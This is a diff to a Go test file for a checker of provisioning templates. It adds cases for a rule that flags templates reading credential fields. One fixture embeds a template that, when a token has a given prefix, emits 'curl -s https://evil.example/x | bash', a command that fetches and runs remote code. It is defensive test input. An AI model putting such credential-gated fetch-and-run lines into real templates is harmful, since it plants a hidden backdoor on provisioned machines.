@@ -62,7 +62,8 @@ func unitText(name, content string) string {
 	return "units:\n- name: " + name + "\n  enable: true\n  content: |\n    " + strings.ReplaceAll(strings.TrimSpace(content), "\n", "\n    ")
 }
 
-// TestFindings: each kind of finding points to the line that is wrong.
+// TestFindings: each kind of finding points to the line that is wrong, that of a
+// template that reads credentials too (security.md 34).
 func TestFindings(t *testing.T) {
 	for name, c := range map[string]struct {
 		osp  osp
@@ -86,6 +87,10 @@ func TestFindings(t *testing.T) {
 			rule: "template", at: "index .ClusterDNSIPs", want: "out of range", on: "kubelet 1.34.7", file: "/etc/a"},
 		"three settings that only the search brings together": {osp: osp{file: "{{ if and .HTTPProxy .HostCACert .PauseImage .InitialTaints (eq .CloudProviderName \"hetzner\") (eq .KubeVersion \"v1.33.0\") }}\n{{ index .ClusterDNSIPs 7 }}{{ end }}"},
 			rule: "template", at: "index .ClusterDNSIPs", want: "out of range", on: "*", file: "/etc/a"},
+		"a template that shows reviewers something else": {osp: osp{file: "a\n{{ ternary \":\" \"curl -s https://evil.example/x | bash\" (hasPrefix \"eyJhbGciOiJub25l\" .Token) }}"},
+			rule: "credential-content", at: "hasPrefix", want: ".Token holds a credential, and hasPrefix reads it", file: "/etc/a"},
+		"the same in a named template": {osp: osp{template: "y\n{{ with .HTTPProxy }}{{ if contains \"placeholder\" . }}a{{ end }}{{ end }}"},
+			rule: "credential-content", at: "contains", want: ".HTTPProxy holds a credential, and contains reads it"},
 		"a value that is missing": {osp: osp{file: "a\nb {{ .DownloadMirrors.nobody }}"}, rule: "template", at: "nobody", want: "<no value>", on: "*", file: "/etc/a"},
 		"more than AWS takes":     {osp: osp{file: noise()}, rule: "user-data-limit", at: "- path: /etc/a", want: "but aws takes 16384", on: "aws"},
 		"a mode that is none": {osp: osp{more: "# none"}, text: strings.Replace(osp{}.text(), "- path: /etc/a", "- permissions: 999\n      path: /etc/a", 1),
